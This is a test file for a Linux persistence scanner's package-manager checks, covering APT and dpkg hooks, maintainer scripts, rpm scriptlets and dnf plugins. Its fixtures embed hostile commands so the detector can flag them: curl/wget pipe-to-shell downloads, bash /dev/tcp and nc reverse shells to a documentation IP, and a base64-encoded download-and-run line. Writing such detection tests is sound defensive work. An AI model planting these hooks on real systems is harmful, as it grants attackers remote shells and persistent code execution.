/**
 * persistence, package managers: APT hooks, dpkg hook options, maintainer scripts and rpm scriptlets, yum/dnf
 * plugins and actions, and (with --hardening) recent packages that no repository provides.
 */
import assert from "node:assert/strict";
import { persistence } from "../../src/scanners/persistence/index.ts";
import { makeTree, runOne } from "../helpers.ts";
import { header, str, writeRpmDb } from "../host/rpm_fixture.ts";
import { exe, fired, rootWith } from "./persistence_fixtures.ts";

Deno.test("APT hooks: payloads under every hook key and syntax fire; stock hooks of packaged programs are quiet", async () => {
  using root = makeTree(
    rootWith(["/usr/sbin/dpkg-preconfigure", "/usr/bin/apt-listchanges", "/usr/bin/test"], {
      "usr/sbin/dpkg-preconfigure": exe(""),
      "usr/bin/apt-listchanges": exe(""),
      "usr/bin/test": exe(""),
      "usr/bin/apt-helper-x": exe(""),
      "etc/apt/apt.conf.d/70debconf":
        '// Pre-configure all packages\nDPkg::Pre-Install-Pkgs {"/usr/sbin/dpkg-preconfigure --apt || true";};\n',
      "etc/apt/apt.conf.d/20listchanges":
        'DPkg::Pre-Install-Pkgs { "/usr/bin/apt-listchanges --apt || test $? -lt 10"; };\nDPkg::Tools::Options::/usr/bin/apt-listchanges::Version "2";\n',
      "etc/apt/apt.conf.d/docker-clean":
        'DPkg::Post-Invoke { "rm -f /var/cache/apt/archives/*.deb || true"; };\nDir::Cache::pkgcache "";\n',
      "etc/apt/apt.conf.d/00cache": 'APT::Update::Pre-Invoke {"curl -fsSL http://203.0.113.5/a | sh";};\n',
      "etc/apt/apt.conf.d/50nested": [
        "apt {",
        "  update",
        "  {",
        "    post-invoke-success",
        '    { "/usr/bin/test -x /usr/bin/x && true";',
        "      \"bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'\"; };",
        "  };",
        "};",
      ].join("\n"),
      "etc/apt/apt.conf.d/60proxy": 'Acquire::http::Proxy-Auto-Detect "/var/tmp/.proxy";\n',
      "etc/apt/apt.conf.d/70planted": 'apt::update::post-invoke:: "/usr/bin/apt-helper-x --sync";\n',
      "etc/apt/apt.conf.d/80cleared": 'DPkg::Post-Invoke {"wget -qO- http://203.0.113.5/b | sh";};\n',
      "etc/apt/apt.conf.d/90clear": "#clear DPkg::Post-Invoke;\n",
      "etc/apt/apt.conf.d/99off.disabled": 'APT::Update::Pre-Invoke {"nc -e /bin/sh 203.0.113.5 1";};\n',
      "etc/apt/apt.conf": 'DPkg::Options { "--force-confold"; "--post-invoke=/tmp/p"; };\n',
    }),
  );
  const r = await runOne(persistence, root.path, { persistenceInventory: true });
  assert.equal(r.status, "ok");
  assert.deepEqual(fired(r.findings), [
    "critical persistence.command.reverse_shell /etc/apt/apt.conf.d/50nested:6",
    "high persistence.command.download_exec /etc/apt/apt.conf.d/00cache:1",
    "high persistence.command.untrusted_path /etc/apt/apt.conf.d/60proxy:1",
    "high persistence.command.untrusted_path /etc/apt/apt.conf:1",
    "medium persistence.command.unowned_program /etc/apt/apt.conf.d/70planted:1",
  ]);
  const inert = r.findings.find((f) =>
    f.id === "persistence.inventory.point:apt_hook:/etc/apt/apt.conf.d/99off.disabled"
  );
  assert.equal(inert?.metadata.inert, true, "a name apt ignores is inventoried, not judged");
  const hooks = r.findings.find((f) =>
    f.id === "persistence.inventory.point:apt_hook:/etc/apt/apt.conf.d/50nested"
  );
  assert.deepEqual(hooks?.metadata.hooks, ["APT::Update::Post-Invoke-Success"]);
  assert.ok(
    !r.findings.some((f) => f.metadata.path === "/etc/apt/apt.conf.d/80cleared"),
    "#clear removed it",
  );
  assert.deepEqual(r.warnings, []);
});

Deno.test("dpkg hook options: dpkg.cfg.d names dpkg reads and root's ~/.dpkg.cfg; needrestart's logger is quiet", async () => {
  using root = makeTree(rootWith(["/usr/lib/needrestart/dpkg-status"], {
    "usr/lib/needrestart/dpkg-status": exe(""),
    "etc/dpkg/dpkg.cfg.d/needrestart":
      "status-logger=(test -x /usr/lib/needrestart/dpkg-status && /usr/lib/needrestart/dpkg-status || cat > /dev/null)\n",
    "etc/dpkg/dpkg.cfg.d/excludes": "path-exclude /usr/share/doc/*\n",
    "etc/dpkg/dpkg.cfg.d/zz-sync": "post-invoke /var/tmp/.s\n",
    "etc/dpkg/dpkg.cfg.d/skipped.cfg": "post-invoke /tmp/never\n",
    "root/.dpkg.cfg": 'pre-invoke="echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjUgfCBzaA== | base64 -d | sh"\n',
  }));
  const r = await runOne(persistence, root.path);
  assert.deepEqual(fired(r.findings), [
    "high persistence.command.encoded_payload /root/.dpkg.cfg:1",
    "high persistence.command.untrusted_path /etc/dpkg/dpkg.cfg.d/zz-sync:1",
  ]);
});

Deno.test("maintainer scripts and rpm scriptlets: only lines with payloads become points", async () => {
  using root = makeTree(rootWith([], {
    "var/lib/dpkg/info/cron.postinst": "#!/bin/sh\nset -e\nupdate-rc.d cron defaults >/dev/null\n",
    "var/lib/dpkg/info/helper:amd64.postinst":
      "#!/bin/sh\nset -e\nwget -qO- http://203.0.113.5/i \\\n  | bash\n",
    "var/lib/dpkg/info/helper:amd64.list": "/.\n",
    "var/lib/dpkg/info/helper.md5sums": "wget -qO- http://203.0.113.5/i | bash\n",
  }));
  Deno.mkdirSync(`${root.path}/var/lib/rpm`, { recursive: true });
  writeRpmDb(`${root.path}/var/lib/rpm/rpmdb.sqlite`, [
    header([
      { tag: 1000, type: 6, count: 1, data: str("bash") },
      { tag: 1024, type: 6, count: 1, data: str("/sbin/ldconfig\n") },
    ]),
    header([
      { tag: 1000, type: 6, count: 1, data: str("agent") },
      { tag: 1023, type: 6, count: 1, data: str("exit 0\n") },
      { tag: 1024, type: 6, count: 1, data: str("#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.5/443 0>&1 &\n") },
    ]),
    new Uint8Array([0, 0, 0, 1]),
  ]);
  const r = await runOne(persistence, root.path, { persistenceInventory: true });
  assert.deepEqual(fired(r.findings), [
    "critical persistence.command.reverse_shell rpm:agent/%post:2",
    "high persistence.command.download_exec /var/lib/dpkg/info/helper:amd64.postinst:3",
  ]);
  const points = r.findings.filter((f) =>
    f.metadata.kind === "maintainer_script" && f.check_id.endsWith("point")
  );
  assert.deepEqual(points.map((f) => [f.metadata.package, f.metadata.script]), [
    ["helper:amd64", "postinst"],
    ["agent", "%post"],
  ]);
  assert.deepEqual(
    r.warnings.map((w) => w.code),
    ["package_db_unreadable"],
    "the malformed header is reported",
  );
  // --fast-scan reads no package database: no maintainer script is read, and the report says so.
  const fast = await runOne(persistence, root.path, { persistenceInventory: true, fastScan: true });
  assert.deepEqual(fast.findings.filter((f) => f.metadata.kind === "maintainer_script"), []);
  assert.deepEqual(fast.warnings.map((w) => [w.code, w.detail]), [[
    "fast_scan_skipped",
    "--fast-scan: maintainer scripts of installed packages (dpkg's and rpm's) not checked (it reads the " +
    "package database); run without --fast-scan or add --integrity",
  ]]);
});

/** A dpkg status stanza. */
const stanza = (name: string, version: string) =>
  `Package: ${name}\nStatus: install ok installed\nArchitecture: amd64\nVersion: ${version}\n`;

Deno.test("--hardening: recent packages whose version no repository offers (nor a newer one)", async () => {
  const lists = [
    "Package: curl\nVersion: 7.88.1-10+deb12u5\n",
    "Package: jq\nVersion: 1.6-2.1+deb12u2\n",
    "Package: nodejs\nVersion: 18.20.4+dfsg-1~deb12u3\n",
  ].join("\n");
  using root = makeTree(rootWith([], {
    "var/lib/dpkg/status": [
      stanza("curl", "7.88.1-10+deb12u5"),
      stanza("jq", "1.6-2.1+deb12u1"),
      stanza("nodejs", "20.20.2-1nodesource1"),
      stanza("agent", "1.0"),
      stanza("oldtool", "0.1"),
    ].join("\n"),
    "var/lib/dpkg/info/curl.list": "/.\n",
    "var/lib/dpkg/info/jq:amd64.list": "/.\n",
    "var/lib/dpkg/info/nodejs.list": "/.\n",
    "var/lib/dpkg/info/agent.list": "/.\n",
    "var/lib/dpkg/info/oldtool.list": "/.\n",
    "var/lib/apt/lists/deb.debian.org_debian_dists_bookworm_main_binary-amd64_Packages": lists,
    "var/lib/apt/lists/deb.debian.org_debian_dists_bookworm_InRelease": "Package: agent\nVersion: 1.0\n",
  }));
  const old = new Date(Date.now() - 30 * 86_400_000);
  Deno.utimeSync(`${root.path}/var/lib/dpkg/info/oldtool.list`, old, old);
  const off = await runOne(persistence, root.path);
  assert.deepEqual(fired(off.findings), [], "only with --hardening");
  const r = await runOne(persistence, root.path, { hardening: true });
  assert.deepEqual(r.findings.map((f) => [f.severity, f.check_id, f.metadata.package, f.metadata.version]), [
    ["low", "persistence.package.not_in_repository", "agent", "1.0"],
    ["low", "persistence.package.not_in_repository", "nodejs", "20.20.2-1nodesource1"],
  ]);
  assert.match(
    r.findings[0].id,
    /^persistence\.package\.not_in_repository:\/var\/lib\/dpkg\/info\/agent\.list:[0-9a-f]{12}$/,
  );
  assert.match(r.findings[1].description!, /newer than every version the repositories offer/);
  assert.deepEqual(r.warnings, []);
  Deno.removeSync(`${root.path}/var/lib/apt/lists`, { recursive: true });
  const none = await runOne(persistence, root.path, { hardening: true });
  assert.deepEqual(none.warnings.map((w) => w.code), ["apt_lists_missing"], "could not check is said");
});

Deno.test("yum/dnf: planted plugin modules, pluginpath, post-transaction actions", async () => {
  const site = "usr/lib/python3.9/site-packages/dnf-plugins";
  using root = makeTree(rootWith([`/${site}/copr.py`, "/usr/bin/systemctl"], {
    "usr/bin/systemctl": exe(""),
    [`${site}/copr.py`]: "import dnf\nclass Copr(dnf.Plugin):\n    name = 'copr'\n",
    [`${site}/kernel_sync.py`]:
      "import dnf, os\nclass K(dnf.Plugin):\n    def transaction(self):\n        os.system('curl -s http://203.0.113.5/k | sh')\n",
    "etc/dnf/plugins/copr.conf": "[main]\nenabled=1\n",
    "etc/dnf/plugins/kernel_sync.conf": "[main]\nenabled = 1\n",
    "etc/dnf/dnf.conf": "[main]\ngpgcheck=1\npluginpath=/tmp/.plugins\n",
    "etc/dnf/plugins/post-transaction-actions.d/restart.action":
      "# key:state:command\nopenssh-server:in:/usr/bin/systemctl restart sshd\n*:any:/dev/shm/.a ${state}\nbad line\n",
  }));
  const r = await runOne(persistence, root.path, { persistenceInventory: true });
  assert.deepEqual(fired(r.findings), [
    "high persistence.command.download_exec /usr/lib/python3.9/site-packages/dnf-plugins/kernel_sync.py:4",
    "high persistence.command.untrusted_path /etc/dnf/dnf.conf:3",
    "high persistence.command.untrusted_path /etc/dnf/plugins/post-transaction-actions.d/restart.action:3",
    "medium persistence.dnf_plugin.unowned /usr/lib/python3.9/site-packages/dnf-plugins/kernel_sync.py",
  ]);
  const k = r.findings.find((f) => f.id === `persistence.inventory.point:dnf_plugin:/${site}/kernel_sync.py`);
  assert.equal(k?.metadata.enabled, true);
});
